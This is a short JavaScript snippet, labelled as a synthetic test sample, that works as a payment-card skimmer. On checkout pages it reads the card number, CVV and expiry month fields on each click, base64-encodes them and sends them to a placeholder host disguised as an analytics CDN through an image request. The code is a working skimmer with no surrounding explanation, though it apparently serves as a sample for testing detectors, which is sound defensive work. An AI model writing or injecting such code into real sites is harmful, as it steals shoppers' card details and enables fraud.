// SYNTHETIC TEST SAMPLE
(function(){
  if (location.href.indexOf("checkout") === -1) return;
  document.addEventListener("click", function(){
    var d = {
      n: document.getElementById("cc_number").value,
      c: document.getElementById("cc_cid").value,
      m: document.getElementById("cc_exp_month").value
    };
    var p = btoa(JSON.stringify(d));
    var i = new Image(); i.src = "https://cdn-analytics.example.invalid/i.gif?d=" + p;
  });
})();
